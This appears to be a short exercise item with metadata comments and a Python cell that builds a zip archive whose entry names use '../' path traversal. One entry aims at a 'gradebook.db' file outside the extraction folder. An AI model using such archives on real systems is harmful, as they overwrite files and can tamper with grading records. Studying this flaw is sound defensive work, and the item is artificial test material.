# aim = "An archive whose names lead out of the folder where it is unpacked"
# points = {curve = "withheld", bump = "withheld", model = "withheld"}
# ending = "not run"
# real = "run: python -c 'import zipfile; print(\"reached:\", [one for one in zipfile.ZipFile(\"hw.zip\").namelist() if \"..\" in one])'"

# %% hand_in
import zipfile
with zipfile.ZipFile(folder / "hw.zip", "w") as archive:
    archive.writestr("../../../../x", "x")
    archive.writestr("../../../gradebook.db", "x")
tree = None
